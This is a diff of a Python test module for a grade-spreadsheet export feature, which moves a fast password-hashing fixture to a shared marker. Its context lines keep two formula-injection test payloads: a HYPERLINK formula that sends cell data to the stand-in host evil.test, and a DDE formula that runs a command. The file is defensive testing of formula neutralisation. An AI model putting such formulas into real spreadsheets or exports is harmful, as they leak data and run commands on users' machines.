@@ -17,13 +17,10 @@ from scoring.factories import SubmissionFactory
 from tenants.factories import StudentFactory
 from vulhub.lib.exports import FormulaSafeExportMixin, neutralise_formula
 
+pytestmark = pytest.mark.usefixtures("fast_hashing")
+
 HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Your grades")'
 DDE = "=cmd|' /C calc'!A0"
-
-
-@pytest.fixture(autouse=True)
-def _fast_hashing(settings):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
 
 
 def export(client, path):
